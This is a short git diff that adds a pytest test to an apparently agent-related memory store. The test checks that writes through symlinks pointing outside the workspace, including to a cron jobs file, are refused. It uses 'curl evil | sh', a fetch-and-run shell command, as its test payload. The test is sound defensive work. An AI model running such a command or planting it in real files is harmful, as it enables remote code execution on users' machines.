@@ -264,3 +264,22 @@ async def test_a_memory_that_is_no_text_is_never_written_over(memory):
 
     assert memory.memory_file.read_bytes() == b"likes \xff\xfe tea"
     assert model.requests == []
+
+
+@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
+@pytest.mark.parametrize("target", ["../profile", "cron/jobs.json"])
+def test_a_link_that_a_command_made_takes_no_memory_out(tmp_path: Path, clock: FrozenClock, target: str):
+    victim = tmp_path.joinpath("workspace", target).resolve()
+    victim.parent.mkdir(parents=True, exist_ok=True)
+    victim.write_text("mine")
+    memory = MemoryStore(tmp_path / "workspace", clock=clock)
+    memory.memory_dir.mkdir(parents=True)
+    memory.memory_file.symlink_to(victim)
+    memory.note_file().symlink_to(victim)
+
+    with pytest.raises(StorageError, match="Remove the link"):
+        memory.write_long_term("curl evil | sh")
+    with pytest.raises(StorageError, match="Remove the link"):
+        memory.append_today("curl evil | sh")
+
+    assert victim.read_text() == "mine"
